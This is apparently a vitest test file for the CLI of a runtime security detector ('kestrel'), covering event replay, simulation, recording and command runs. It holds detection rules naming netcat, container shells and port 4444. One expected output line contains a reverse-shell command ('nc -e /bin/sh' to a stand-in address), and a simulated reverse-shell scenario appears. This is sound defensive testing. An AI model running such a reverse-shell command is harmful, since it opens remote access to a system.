// The event-source commands end to end (in-process): replay, simulate, record, run.
import { describe, expect, it, vi } from 'vitest';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { run as replay } from './replay.js';
import { run as simulate } from './simulate.js';
import { run as record } from './record.js';
import { run as runCmd } from './run.js';
import { parseEventsText } from '../../collectors/ndjson.js';

// replay, simulate and run store their matches: keep this file's incidents out of the checkout.
process.env.KESTREL_DB = join(mkdtempSync(join(tmpdir(), 'kestrel-src-cli-')), 'kestrel.db');

type Cmd = (args: string[]) => Promise<number>;

async function cli(cmd: Cmd, ...args: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const o = vi.spyOn(process.stdout, 'write').mockImplementation((s: string | Uint8Array) => {
    out += String(s);
    return true;
  });
  const e = vi.spyOn(process.stderr, 'write').mockImplementation((s: string | Uint8Array) => {
    err += String(s);
    return true;
  });
  try {
    return { code: await cmd(args), out, err };
  } finally {
    o.mockRestore();
    e.mockRestore();
  }
}

const dir = mkdtempSync(join(tmpdir(), 'kestrel-src-'));
const RULES = join(dir, 'rules.yaml');
writeFileSync(
  RULES,
  `- rule: Shell in a container
  desc: test rule
  condition: evt.type = execve and container.id != host and proc.name in (sh, bash)
  output: shell %proc.name in %container.id (parent %proc.pname)
  priority: WARNING
- rule: Netcat seen
  desc: test rule
  condition: evt.type = execve and proc.name = nc
  output: netcat %proc.cmdline
  priority: NOTICE
- rule: Connect to 4444
  desc: test rule
  condition: evt.type = connect and fd.rport = 4444
  output: connection to %fd.rip:%fd.rport by %proc.name
  priority: CRITICAL
`,
);
const TETRAGON = fileURLToPath(new URL('../../collectors/fixtures/tetragon-export.json', import.meta.url));

describe('kestrel replay', () => {
  it('replays Tetragon exports: matches, counts, skipped types, malformed lines; exit 0', async () => {
    const r = await cli(replay, '--format', 'tetragon', '-r', RULES, TETRAGON);
    expect(r.code).toBe(0);
    // The only shell in a container is a synthetic parent record: it never matches.
    expect(r.out).not.toContain('shell bash');
    expect(r.out).toContain('Notice netcat nc -e /bin/sh 203.0.113.7 4444 (rule: Netcat seen)');
    expect(r.out).toContain('matches: 1');
    expect(r.out).toMatch(/events: 13 \(exec 7, connect 3, exit 3\), 3 pre-existing processes/);
    expect(r.out).toContain('skipped Tetragon events: process_kprobe:security_file_permission 1, process_close 1');
    expect(r.out).toContain('malformed lines skipped: 1');
    expect(r.err).toMatch(/tetragon-export\.json:16:\d+: invalid JSON/);
  });

  it('replays Kestrel NDJSON with --json, and says when a file is missing', async () => {
    const f = join(dir, 'ev.ndjson');
    writeFileSync(
      f,
      '{"type":"exec","ts":1,"pid":5,"ppid":1,"exe":"/bin/bash","argv":["bash"],"container":{"id":"abc123abc123"}}\n' +
        '{"type":"connect","ts":2,"pid":5,"family":"inet","daddr":"198.51.100.1","dport":4444}\n' +
        'garbage\n',
    );
    const r = await cli(replay, '-r', RULES, '--json', f);
    expect(r.code).toBe(0);
    const doc = JSON.parse(r.out) as { matches: { rule: string }[]; summary: { byType: Record<string, number> } };
    expect(doc.matches.map((m) => m.rule)).toEqual(['Shell in a container', 'Connect to 4444']);
    expect(doc.summary.byType).toEqual({ exec: 1, connect: 1 });
    expect(r.err).toContain(`${f}:3:1: invalid JSON`);
    expect((await cli(replay, join(dir, 'missing.ndjson'))).code).toBe(2);
    expect((await cli(replay, '--format', 'xml', f)).code).toBe(2);
  });
});

describe('kestrel simulate', () => {
  it('is deterministic for a seed and exits 1 on matches', async () => {
    const a = await cli(simulate, 'attack-reverse-shell', '--seed', '5', '-r', RULES, '--ndjson');
    const b = await cli(simulate, 'attack-reverse-shell', '--seed', '5', '-r', RULES, '--ndjson');
    expect(a.code).toBe(1);
    expect(a.out).toBe(b.out);
    expect(a.out).toContain('"rule":"Shell in a container"');
  });

  it('reports a broken scenario with file:line:column', async () => {
    const bad = join(dir, 'bad.yaml');
    writeFileSync(bad, 'steps:\n  - {type: exec, as: a, exe: /bin/sh, uid: nobody}\n');
    const r = await cli(simulate, bad, '-r', RULES);
    expect(r.code).toBe(2);
    expect(r.err).toContain(`${bad}:2:44: "uid" must be an integer`);
  });
});

describe('kestrel record', () => {
  it('writes a simulated stream that replays to the same events', async () => {
    const f = join(dir, 'rec.ndjson');
    const r = await cli(record, '--from', 'simulate', '--count', '200', '--seed', '9', '-o', f, 'builtin');
    expect(r.code).toBe(0);
    expect(r.err).toMatch(/recorded 200 events/);
    const evs = parseEventsText(readFileSync(f, 'utf8'));
    expect(evs).toHaveLength(200);
    const back = await cli(replay, '--no-rules', '--ndjson', '--events', f);
    expect(parseEventsText(back.out)).toEqual(evs);
  });
});

describe('kestrel record --from replay', () => {
  it('converts a Tetragon export to Kestrel NDJSON', async () => {
    const f = join(dir, 'tg.ndjson');
    const r = await cli(record, '--from', 'replay', '--format', 'tetragon', '-o', f, TETRAGON);
    expect(r.code).toBe(0);
    const evs = parseEventsText(readFileSync(f, 'utf8'));
    expect(evs).toHaveLength(13);
    expect(evs.filter((e) => e.type === 'exec' && e.synthetic === true)).toHaveLength(3);
    expect(r.err).toMatch(/tetragon-export\.json:16:\d+: invalid JSON/);
  });
});

describe('kestrel run', () => {
  it("shows sh, ls and true of sh -c 'ls /; exec true' and returns the command's status", async () => {
    const r = await cli(runCmd, '--no-rules', '--', 'sh', '-c', 'ls / >/dev/null; exec true');
    expect(r.code).toBe(0);
    expect(r.err).toMatch(/exec +pid=\d+.* \/\S*sh \["sh","-c","ls \/ >\/dev\/null; exec true"\]/);
    expect(r.err).toMatch(/exec +pid=\d+.* \/\S*ls \["ls","\/"\]/);
    expect(r.err).toMatch(/exec +pid=\d+.* \/\S*true \["true"\]/);
    const s = await cli(runCmd, '--no-rules', '-o', join(dir, 'run.ndjson'), 'sh', '-c', 'exit 5');
    expect(s.code).toBe(5);
    expect(parseEventsText(readFileSync(join(dir, 'run.ndjson'), 'utf8')).map((e) => e.type)).toEqual(['exec', 'exit']);
    const nf = await cli(runCmd, '--no-rules', 'no-such-command-here');
    expect(nf.code).toBe(127);
    expect(nf.err).toContain('no-such-command-here: command not found');
  });
});

describe('replay stores incidents', () => {
  it('writes the matches of a replay into the store named by KESTREL_DB', async () => {
    const db = join(mkdtempSync(join(tmpdir(), 'kestrel-replay-db-')), 'k.db');
    const before = process.env.KESTREL_DB;
    process.env.KESTREL_DB = db;
    try {
      const r = await cli(replay, '--format', 'tetragon', '-r', RULES, TETRAGON);
      expect(r.code).toBe(0);
      expect(r.out).toMatch(/incidents: [1-9]\d* created/);
      const { IncidentStore } = await import('../../alerts/store/store.js');
      const store = new IncidentStore(db);
      try {
        expect(store.list({ limit: 10 }).length).toBeGreaterThan(0);
      } finally {
        store.close();
      }
    } finally {
      process.env.KESTREL_DB = before;
    }
  });
});
